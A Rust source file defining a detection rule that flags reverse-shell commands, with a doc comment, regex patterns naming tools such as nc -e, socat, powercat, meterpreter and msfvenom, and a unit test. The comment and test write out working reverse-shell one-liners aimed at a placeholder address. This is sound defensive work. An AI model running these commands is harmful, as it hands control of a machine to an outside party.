//! **What.** A shell of the machine is connected to another one.
//!
//! **Why.** Whoever is at the other end types with the rights of whoever ran it.
//!
//! **Bad.** `bash -i >& /dev/tcp/203.0.113.1/4444 0>&1`, `nc -e /bin/sh …`
//!
//! **Better.** Remote help through the organisation's own tool, which the person sees and ends.
//!
//! **Source.** MITRE ATT&CK T1059, T1095.

use super::{Rule, Severity};
use crate::knowledge::Style;

pub(super) static RULE: Rule = Rule {
    name: "net.reverse-shell",
    severity: Severity::Critical,
    attack: &["T1059", "T1095"],
    attack_before: &[],
    analyzer: &[],
    reason: "it connects a shell of this machine to another one",
    better: "give remote help through the organisation's own tool",
    calls: &[
        (Style::Posix, "nc, ncat, netcat: -e ; -c ; --exec ; --sh-exec"),
        (Style::Windows, "nc, ncat, netcat, nc64: -e ; ~-e ; -c ; -nv"),
        (Style::Posix, "socat: ~exec: ; ~EXEC: ; ~system: ; ~SYSTEM:"),
        (Style::Posix, "telnet: ~|"),
        (
            Style::Cmdlet,
            "powercat, invoke-powershelltcp, invoke-powershellicmp, invoke-powershelludp, invoke-reverse: *",
        ),
    ],
    words: &[
        r"/dev/(tcp|udp)/",
        r"mkfifo\s+\S+[^\n]*\b(nc|ncat|openssl|telnet)\b|\bmknod\s+\S+\s+p\b[^\n]*\bnc\b",
        r"(net\.sockets\.tcpclient|system\.net\.sockets\.(tcp|udp)client|net\.sockets\.tcplistener)\b",
        r"socket\.socket\([^\n]*(dup2|subprocess|pty\.spawn|/bin/sh)|pty\.spawn\(",
        r"fsockopen\(|io\.popen\([^\n]*sh|use\s+socket;[^\n]*exec",
        r"\bpowercat\b|invoke-powershell(tcp|icmp|udp)|meterpreter|msfvenom|cobaltstrike|\bsliver\b|chisel(\.exe)?\s+(client|server)|reverse_?shell|gsocket|\bgs-netcat\b",
        r"xterm\s+-display\s+\d",
        r"\bnc(at)?(\.exe)?\s+[^\n]*-e\s+\S*(sh|cmd|powershell)",
    ],
    about_change: false,
    check: None,
};

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::cases::holds;

    #[test]
    fn a_shell_for_somebody_else_is_found() {
        holds(
            &RULE,
            &[("bash", "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"), ("bash", "nc -e /bin/sh 203.0.113.1 4444")],
            &[("bash", "nc -z -v example.com 443"), ("powershell", "Test-NetConnection example.com -Port 443")],
        );
    }
}
